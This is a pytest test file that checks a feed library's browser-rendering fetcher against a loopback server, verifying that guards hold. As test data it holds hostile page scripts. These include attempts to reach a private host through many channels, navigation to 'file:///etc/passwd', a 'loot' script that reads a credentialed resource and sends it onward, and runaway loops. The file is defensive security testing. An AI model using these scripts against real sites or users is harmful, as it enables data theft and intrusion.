"""Pages that only a browser can show, with the system's own Chromium and a server on loopback."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

from feedmaker.errors import AddressRefused, FetchError
from feedmaker.fetch import Web, rendering
from feedmaker.model import Access, Rendering
from tests.fetch.hostile import PAGE, FakeResolver, Peer, Reader, policy, says, serving
from tests.fetch.showing import QUICK, SHELL, Place, needs_browser
from tests.fetch.test_faults import little_memory

if TYPE_CHECKING:
    pass

pytestmark = needs_browser

SECRET = "Geheimnis"
APP = b"""
fetch("/api/news", {headers: {"X-Requested-With": "app"}}).then(r => r.json()).then(stories => {
  for (const story of stories) document.body.insertAdjacentHTML("beforeend", `<h2 class=story>${story}</h2>`)
})
"""


def test_a_page_is_read_after_its_scripts_have_run(place: Place) -> None:
    place.server.add("/app.js", says(APP, headers="Content-Type: text/javascript\r\n"))
    place.server.add("/api/news", says(b'["One", "Zwei \xc3\xa4"]', headers="Content-Type: application/json\r\n"))
    url = place.server.add("/", says(SHELL, headers='ETag: "1"\r\nContent-Type: text/html; charset=cp1252\r\n'))
    page = place.reader.page(url, browser=Rendering(wait_for=".story"))
    assert [element.text for element in page.tree.cssselect("h2.story")] == ["One", "Zwei ä"]
    assert page.tree.get("lang") == "de"
    assert page.validators.etag is None
    assert place.server.paths() == ["/", "/app.js", "/api/news"]
    assert {request.headers["user-agent"][:10] for request in place.server.requests} == {"Feedmaker/"}
    assert place.server.requests[2].headers["x-requested-with"] == "app"


@pytest.mark.parametrize("kind", ["application/rss+xml", "application/json"])
def test_what_is_no_page_is_read_as_it_came(place: Place, kind: str) -> None:
    url = place.server.add("/data", says(b"<rss/>", headers=f"Content-Type: {kind}\r\n"))
    assert place.reader.page(url, browser=Rendering(wait_for=".story")).content == b"<rss/>"


def test_the_end_is_scrolled_to_and_more_is_clicked(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "MORE_SECONDS", 0.5)
    scroll = "let n = 0; addEventListener('scroll', () => { if (n < 9) document.body.insertAdjacentHTML('beforeend',"
    scroll += " `<p class=more style='height:3000px'>${++n}</p>`) })"
    url = place.page(scroll, body="<p style='height:3000px'>")
    assert len(place.reader.page(url, browser=Rendering(wait_for="p", times=3)).tree.cssselect(".more")) == 3
    click = "document.querySelector('button').onclick = e => e.target.insertAdjacentHTML('afterend', '<p class=more>')"
    url = place.page(click, body="<button>More</button>")
    page = place.reader.page(url, browser=Rendering(wait_for="button", more="button", times=2))
    assert len(page.tree.cssselect(".more")) == 2
    assert (
        place.reader.page(url, browser=Rendering(wait_for="button", more="#none", times=2)).tree.cssselect(".more")
        == []
    )


def test_pictures_media_fonts_and_frames_are_not_asked_for(place: Place) -> None:
    body = "<img src=/i.png><video src=/v.mp4></video><iframe src=/frame></iframe><object data=/o></object>"
    body += "<style>@font-face {font-family: x; src: url(/f.woff)} p {font-family: x}</style><p>x</p>"
    place.reader.page(place.page("", body=body), browser=Rendering())
    assert set(place.server.paths()) <= {"/page", "/o", "/favicon.ico"}


def test_nothing_that_a_page_does_goes_around_the_guards(place: Place) -> None:
    with serving() as private:
        tries = f"""
        const there = "127.0.0.1:{private.port}"
        fetch(`http://${{there}}/fetch`).catch(() => 0)
        fetch("http://in.test:{place.server.port}/dns").catch(() => 0)
        fetch("/redirect").catch(() => 0)
        new WebSocket(`ws://${{there}}/socket`)
        new EventSource(`http://${{there}}/events`)
        navigator.sendBeacon(`http://${{there}}/beacon`, "x")
        open(`http://${{there}}/popup`)
        for (const rel of ["preconnect", "prefetch", "preload", "dns-prefetch", "stylesheet"])
          document.head.insertAdjacentHTML("beforeend", `<link rel=${{rel}} as=script href="http://${{there}}/${{rel}}">`)
        new Worker(URL.createObjectURL(new Blob([`fetch("http://${{there}}/worker")`])))
        document.body.insertAdjacentHTML("beforeend", `<form action="http://${{there}}/form"></form>`)
        setTimeout(() => document.forms[0].submit(), 300)
        """
        place.server.add("/redirect", says(b"", "302 Found", f"Location: http://127.0.0.1:{private.port}/\r\n"))
        place.reader.fetch(place.page(tries), browser=Rendering())
        assert private.connections == 0
    assert {request.host for request in place.server.requests} == {f"127.0.0.1:{place.server.port}"}


def test_secrets_stay_with_their_origin(place: Place) -> None:
    port = place.server.port
    script = f"document.cookie = 'mine=1'; fetch('/own'); fetch('http://b.test:{port}/other')"
    place.server.add("/own", says())
    place.server.add("/other", says(headers="Access-Control-Allow-Origin: *\r\n"))
    url = place.page(script).replace("127.0.0.1", "a.test")
    access = Access(url=url, headers={"X-Key": SECRET}, cookies={"session": SECRET})
    place.reader.page(url, access=access, browser=Rendering())
    seen = {request.path: request.headers for request in place.server.requests}
    assert seen["/page"]["x-key"] == seen["/own"]["x-key"] == SECRET
    assert seen["/own"]["cookie"] == f"session={SECRET}; mine=1"
    assert SECRET not in str(seen["/other"])


def test_cookies_that_answers_set_are_sent_again(place: Place) -> None:
    body = b"<script>fetch('/one').then(() => fetch('/two')).then(() => document.body.id = 'done')</script><body>"
    place.server.add("/one", says(headers="Set-Cookie: one=1; HttpOnly\r\n"))
    place.server.add("/two", says())
    url = place.server.add("/", says(body, headers="Content-Type: text/html\r\nSet-Cookie: zero=0\r\n"))
    place.reader.page(url, browser=Rendering(wait_for="#done"))
    cookies = {request.path: request.headers.get("cookie") for request in place.server.requests}
    assert cookies == {"/": None, "/one": "zero=0", "/two": "zero=0; one=1"}


def test_a_script_may_lead_to_another_page_of_the_site_and_not_elsewhere(place: Place) -> None:
    final = place.server.add("/final", says(PAGE, headers="Content-Type: text/html\r\n"))
    page = place.reader.page(place.page("location = '/final'"), browser=Rendering(wait_for="p"))
    assert (page.url, page.tree.findtext(".//p")) == (final, "All is well.")
    page = place.reader.page(place.page("location = 'file:///etc/passwd'"), browser=Rendering())
    assert page.url == f"{place.server.url}/page"
    assert "root:" not in page.text


@pytest.mark.parametrize("script", ["while (true) {}", "setTimeout(() => { while (true) {} }, 50)"])
def test_a_script_without_end_is_cut_off(place: Place, script: str) -> None:
    with Reader(Web(policy(place.server, seconds=1))) as reader:
        began = time.monotonic()
        with pytest.raises(FetchError):
            reader.fetch(place.page(script), browser=Rendering())
        assert time.monotonic() - began < 8


def test_what_never_appears_is_named(place: Place) -> None:
    with Reader(Web(policy(place.server, seconds=4))) as reader:
        with pytest.raises(FetchError, match=r"/page cannot be read: `wait_for: \.story` did not appear"):
            reader.fetch(place.page(""), browser=Rendering(wait_for=".story"))
        with pytest.raises(FetchError, match="the browser does not show it"):
            reader.fetch(place.page(""), browser=Rendering(wait_for="]["))


def test_a_page_that_grows_or_asks_too_much_is_bounded(place: Place) -> None:
    with Reader(Web(policy(place.server, seconds=8, max_bytes=100_000))) as reader:
        grow = "document.body.innerHTML = 'x'.repeat(200000)"
        with pytest.raises(FetchError, match="more than 100,000 characters"):
            reader.fetch(place.page(grow), browser=Rendering())
        place.server.add("/x", says(b"x" * 90_000))
        reader.page(
            place.page("(async () => { for (let i = 0; i < 20; i++) await fetch('/x') })()"), browser=Rendering()
        )
        assert place.server.paths().count("/x") <= 6


def test_scripts_cannot_lie_about_what_a_page_holds(place: Place) -> None:
    lies = "document.getElementsByTagName = () => ({length: 'many'}); document.body.append('the truth');"
    lies += "Object.defineProperty(Element.prototype, 'innerHTML', {get: () => 'a lie'})"
    page = place.reader.page(place.page(lies), browser=Rendering(times=1))
    assert "the truth" in page.text
    assert "a lie" not in page.tree.text_content().replace(lies, "")


def test_a_page_of_fifty_megabytes_costs_this_process_little(place: Place) -> None:
    grow = "document.body.hidden = true; const text = 'x'.repeat(1 << 24); document.body.append(text, 1, text, 2, text)"
    place.reader.page(place.page(""), browser=QUICK)
    with little_memory(), pytest.raises(FetchError, match="more than 10,485,760 characters"):
        place.reader.fetch(place.page(grow), browser=QUICK)


def test_an_answer_that_is_no_page_needs_no_browser(place: Place) -> None:
    with pytest.raises(FetchError, match="404"):
        place.reader.fetch(f"{place.server.url}/none", browser=Rendering())
    with pytest.raises(AddressRefused):
        place.reader.fetch("http://10.0.0.1/", browser=Rendering())


def test_pages_wait_for_the_browser_without_losing_time_for_that(place: Place) -> None:
    hosts = [f"h{number}.test" for number in range(4)]
    resolver = FakeResolver({host: [["127.0.0.1"]] for host in hosts})
    url = place.page("setTimeout(() => document.body.id = 'done', 1200)")
    with Reader(Web(policy(place.server, seconds=4), resolver=resolver)) as reader, ThreadPoolExecutor(4) as pool:
        urls = [url.replace("127.0.0.1", host) for host in hosts]
        pages = list(pool.map(lambda each: reader.page(each, browser=Rendering(wait_for="#done")), urls))
    assert [len(page.tree.cssselect("#done")) for page in pages] == [1, 1, 1, 1]


def test_a_page_that_a_script_leads_to_cannot_read_what_is_open_to_the_source_alone(place: Place) -> None:
    port = place.server.port
    home, evil = f"http://a.test:{port}", f"http://b.test:{port}"
    html = "Content-Type: text/html\r\n"
    loot = f"fetch('{home}/private', {{credentials: 'include'}}).then(r => r.text()).then(t => fetch('/loot?' + t))"
    place.server.add("/news", says(f"<body><script>location = '{evil}/page'</script>".encode(), headers=html))
    place.server.add("/private", says(b"all-mine", headers="Content-Type: text/plain\r\n"))
    place.page(loot)
    access = Access(url=f"{home}/news", headers={"X-Key": SECRET}, cookies={"session": SECRET})
    with suppress(FetchError):
        place.reader.fetch(f"{home}/news", access=access, browser=Rendering())
    seen = {request.path: request.headers for request in place.server.requests}
    assert seen["/news"]["x-key"] == SECRET
    assert SECRET not in str(seen["/private"])
    assert SECRET not in str(seen["/page"])


def test_what_a_page_asks_of_another_host_waits_for_the_request_that_is_open_there(place: Place) -> None:
    at_once, most = [0], [0]

    def slow(peer: Peer) -> None:
        at_once[0] += 1
        most[0] = max(most[0], at_once[0])
        peer.closing.wait(0.3)
        at_once[0] -= 1
        peer.answer(headers="Content-Type: text/html\r\n")

    other = f"http://b.test:{place.server.port}"
    place.server.add("/slow", slow)
    url = place.page(f"for (let i = 0; i < 3; i++) fetch('{other}/slow').catch(() => 0)")
    with ThreadPoolExecutor(2) as pool:
        shown = pool.submit(place.reader.page, url, browser=Rendering())
        for _ in range(4):
            place.reader.page(f"{other}/slow")
        shown.result(20)
    assert place.server.paths().count("/slow") == 7
    assert most == [1]
